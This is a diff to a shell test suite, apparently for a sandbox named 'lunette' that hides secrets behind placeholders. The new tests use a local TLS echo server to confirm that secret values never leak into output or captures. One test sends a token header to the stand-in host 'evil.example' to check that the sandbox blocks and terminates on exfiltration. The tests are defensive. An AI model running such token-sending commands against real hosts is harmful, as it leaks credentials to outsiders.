@@ -721,6 +721,68 @@ EOF
   done
   return 0
 }
+# A server outside, on the loopback, that writes down what it is asked and says it again.
+with_server() {
+  with_secrets
+  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout up.key -out up.pem -subj /CN=upstream -days 5 \
+    -addext subjectAltName=DNS:host.lunette.internal,DNS:evil.example 2>/dev/null || fail "openssl"
+  cat >outside.py <<'EOF'
+import http.server, ssl
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain("up.pem", "up.key")
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        asked = self.requestline + "\n" + str(self.headers)
+        with open("recorded", "a") as file:
+            file.write(asked)
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(asked)))
+        self.end_headers()
+        self.wfile.write(asked.encode())
+    def log_message(self, *_):
+        pass
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
+print(server.server_port, flush=True)
+server.serve_forever()
+EOF
+  /usr/bin/python3 outside.py >port &
+  background+=($!)
+  eventually test -s port
+  port=$(cat port)
+  cat >head <<EOF
+return {
+  rules = { "allow@host.lunette.internal", "allow@evil.example" },
+  dns = { hosts = { ["evil.example"] = "172.16.0.1" } },
+  tls = { intercepted_ports = { $port }, upstream_ca_certs = { "up.pem" } },
+  on_secret_violation = "block-and-terminate",
+EOF
+  { cat head && sed -e 1,2d -e 's/"api.example.com"/"host.lunette.internal"/' p.lua; } >q.lua
+  policy=q.lua
+}
+test_secrets_arrive_and_their_values_are_nowhere_else() {
+  with_server
+  options=(--events events --pcap pcap -v)
+  for name in FILE ENV COMMAND GIVEN; do
+    # shellcheck disable=SC2016
+    run sh -c 'curl -sS -H "X-Token: $'$name'_TOKEN" https://host.lunette.internal:'"$port"'/$(env | wc -l); env; cat "$SSL_CERT_FILE" events pcap' >>seen 2>said || true
+    cat events pcap >>written
+  done
+  for value in value-of-file value-of-env value-of-command value-of-policy; do
+    equal "$(grep -c "^X-Token: $value" recorded)" 1
+    grep -a -q "^X-Token: .LUNETTE_" seen || fail "$(cat seen said)"
+    grep -a -l -e "$value" -e "$(printf %s "$value" | base64 | cut -c 1-12)" seen said written && fail "$value is there"
+  done
+  return 0
+}
+test_a_violation_ends_the_sandbox_with_125() {
+  with_server
+  # shellcheck disable=SC2016
+  status 125 run sh -c 'curl -s -H "X-Token: $FILE_TOKEN" https://evil.example:'"$port"'/; sleep 5; touch alive' 2>err
+  grep -q '^lunette: the sandbox is ended: the placeholder of FILE_TOKEN was on its way to evil.example' err || fail "$(cat err)"
+  [ ! -e recorded ] || fail "$(cat recorded)"
+  [ ! -e alive ] || fail "CMD went on"
+}
 test_lunette_with_secrets_leaves_no_core_and_shows_no_memory() {
   with_secrets
   run sleep 471107 &
